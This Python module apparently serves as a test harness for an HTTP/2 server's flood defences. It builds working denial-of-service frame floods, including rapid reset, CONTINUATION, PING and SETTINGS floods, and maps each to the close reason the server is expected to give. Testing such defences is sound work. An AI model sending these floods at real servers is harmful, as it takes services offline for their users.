"""Floods of HTTP/2 frames: each attack yields pieces to send until the server has had enough."""

import struct
import time

from .frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, SETTINGS, frame, literal,
                     request, request_fields, reset, window_update)

PRIORITY_UPDATE = 16  # RFC 9218 §7.1


def rapid_reset(attacker):
    return (b"".join(request(s) + reset(s) for s in range(first, first + 200, 2)) for first in range(1, 400_001, 200))


def window_overflow(attacker):
    """The server must reset each stream itself (CVE-2025-8671)."""
    return (b"".join(request(s, "/echo", "POST", ends=False) + window_update(s, 0x7fffffff) for s in range(f, f + 40, 2))
            for f in range(1, 200_001, 40))


def data_past_length(attacker):
    return (b"".join(request(s, "/echo", "POST", [("content-length", "1")], ends=False) + frame(DATA, END_STREAM, s, b"xx")
                     for s in range(f, f + 40, 2)) for f in range(1, 200_001, 40))


def malformed(attacker):
    """A connection field is a stream error (RFC 9113 §8.2.2)."""
    return (b"".join(request(s, extra=[("connection", "close")]) for s in range(f, f + 40, 2)) for f in range(1, 200_001, 40))


def zero_increment(attacker):
    """A window that grows by nothing (RFC 9113 §6.9): here it ends the connection."""
    return (b"".join(request(s, "/echo", "POST", ends=False) + window_update(s, 0) for s in range(f, f + 40, 2)) for f in range(1, 200_001, 40))


def beyond_the_limit(attacker):
    """Streams above SETTINGS_MAX_CONCURRENT_STREAMS, each of which must be refused."""
    return (b"".join(request(s, "/echo", "POST", ends=False) for s in range(f, f + 40, 2)) for f in range(1, 200_001, 40))


def trailers_without_end(attacker):
    return (b"".join(request(s, "/echo", "POST", ends=False) + frame(HEADERS, END_HEADERS, s, literal("x", "y"))
                     for s in range(f, f + 40, 2)) for f in range(1, 200_001, 40))


def fields_for_a_closed_stream(attacker):
    """Header blocks that must be decoded although nobody wants them: the server itself has ended the stream."""
    yield request(1, "/echo", "POST", [("content-length", "1")], ends=False) + frame(DATA, END_STREAM, 1, b"xx")
    yield b"".join(request(s) for s in range(3, 43, 2))  # so that the first one is long ago
    for _ in range(20_000):
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, request_fields()) * 100


def data_for_a_closed_stream(attacker):
    yield request(1, "/echo", "POST", [("content-length", "1")], ends=False) + frame(DATA, END_STREAM, 1, b"xx")
    yield b"".join(request(s) for s in range(3, 43, 2))
    for _ in range(20_000):
        yield frame(DATA, 0, 1, b"x" * 50) * 100


def priority_updates(attacker):
    return (b"".join(frame(PRIORITY_UPDATE, 0, 0, struct.pack("!I", s) + b"u=3") for s in range(1, 201, 2)) for _ in range(20_000))


def priority_updates_for_idle_streams(attacker):
    """Each is kept for the stream that may open one day."""
    return (b"".join(frame(PRIORITY_UPDATE, 0, 0, struct.pack("!I", s) + b"u=3") for s in range(f, f + 100, 2)) for f in range(1, 400_001, 100))


def answers_made_tiny(attacker):
    """One frame that makes the server send a frame of one byte on each of its streams."""
    yield frame(SETTINGS, payload=struct.pack("!HI", 4, 0)) + b"".join(request(s, "/32m.bin") for s in range(1, 201, 2))
    for size in range(1, 20_000):
        time.sleep(0.01)  # several at once would be answered by one frame
        yield frame(SETTINGS, payload=struct.pack("!HI", 4, size))


def goaways(attacker):
    return (frame(GOAWAY, payload=struct.pack("!II", 0, 0)) * 100 for _ in range(20_000))


def huge_settings(attacker):
    return (frame(SETTINGS, payload=struct.pack("!HI", 4, 65535) * 1000) for _ in range(20_000))


def table_size_churn(attacker):
    """Each makes the server empty its table and say so in the next header block (RFC 7541 §4.2)."""
    return (b"".join(frame(SETTINGS, payload=struct.pack("!HI", 1, size)) for size in (0, 4096) * 50) for _ in range(20_000))


def large_unknown_frames(attacker):
    return (frame(0x77, 0, 0, b"x" * 16_384) * 4 for _ in range(20_000))


def continuation_flood(attacker):
    yield frame(HEADERS, END_STREAM, 1, request_fields())
    for _ in range(20_000):
        yield frame(CONTINUATION, 0, 1, literal("x", "y")) * 10


def empty_continuations(attacker):
    yield frame(HEADERS, END_STREAM, 1, request_fields())
    for _ in range(20_000):
        yield frame(CONTINUATION, 0, 1, b"") * 20


def settings_flood(attacker):
    return (frame(SETTINGS, payload=struct.pack("!HI", 4, 65535)) * 100 for _ in range(20_000))


def ping_flood(attacker):
    return (frame(PING, payload=b"12345678") * 100 for _ in range(20_000))


def ping_answers(attacker):
    return (frame(PING, ACK, payload=b"12345678") * 100 for _ in range(20_000))


def empty_data(attacker):
    yield request(1, "/echo", "POST", ends=False)
    for _ in range(20_000):
        yield frame(DATA, 0, 1) * 100


def padding_only(attacker):
    yield request(1, "/echo", "POST", ends=False)
    for _ in range(20_000):
        yield frame(DATA, PADDED, 1, b"\x01\0") * 50


def priority_churn(attacker):
    return (b"".join(frame(PRIORITY, 0, s, struct.pack("!IB", 0, 16)) for s in range(1, 201, 2)) for _ in range(20_000))


def window_updates(attacker):
    yield request(1, "/echo", "POST", ends=False)
    for _ in range(20_000):
        yield window_update(1, 1) * 100


def tiny_data(attacker):
    yield request(1, "/echo", "POST", ends=False)
    for _ in range(20_000):
        yield frame(DATA, 0, 1, b"x") * 100


def unknown_frames(attacker):
    return (frame(0x77, 0, 0, b"x") * 100 for _ in range(20_000))


# name: (what is sent, close reasons that are right)
ATTACKS = {
    "rapid reset": (rapid_reset, {"rapid_reset"}),
    "own resets, window overflow": (window_overflow, {"own_resets", "h2_flow_control_error"}),
    "own resets, past the length": (data_past_length, {"own_resets", "h2_protocol_error"}),
    "CONTINUATION flood": (continuation_flood, {"flood_continuation", "header_bomb"}),
    "empty CONTINUATIONs": (empty_continuations, {"flood_continuation"}),
    "SETTINGS flood": (settings_flood, {"flood_settings"}),
    "PING flood": (ping_flood, {"flood_ping"}),
    "unasked PING answers": (ping_answers, {"flood_ping"}),
    "empty DATA": (empty_data, {"flood_empty"}),
    "padding-only DATA": (padding_only, {"flood_empty", "flood_data_tiny"}),
    "tiny DATA": (tiny_data, {"flood_data_tiny"}),
    "PRIORITY churn": (priority_churn, {"flood_priority"}),
    "WINDOW_UPDATE flood": (window_updates, {"flood_window_update"}),
    "unknown frames": (unknown_frames, {"flood_empty"}),
    "unknown frames of 16 KB": (large_unknown_frames, {"flood_empty"}),
    "own resets, malformed": (malformed, {"own_resets"}),
    "increment 0": (zero_increment, {"h2_protocol_error"}),
    "own resets, trailers": (trailers_without_end, {"own_resets"}),
    "streams above the limit": (beyond_the_limit, {"own_resets"}),
    "HEADERS for a closed stream": (fields_for_a_closed_stream, {"flood_empty"}),
    "DATA for a closed stream": (data_for_a_closed_stream, {"flood_empty"}),
    "PRIORITY_UPDATE churn": (priority_updates, {"flood_priority"}),
    "PRIORITY_UPDATE for idle streams": (priority_updates_for_idle_streams, {"flood_priority"}),
    "answers made tiny": (answers_made_tiny, {"flood_data_tiny"}),
    "GOAWAY flood": (goaways, {"flood_empty"}),
    "huge SETTINGS": (huge_settings, {"flood_settings"}),
    "table size churn": (table_size_churn, {"flood_settings"}),
}
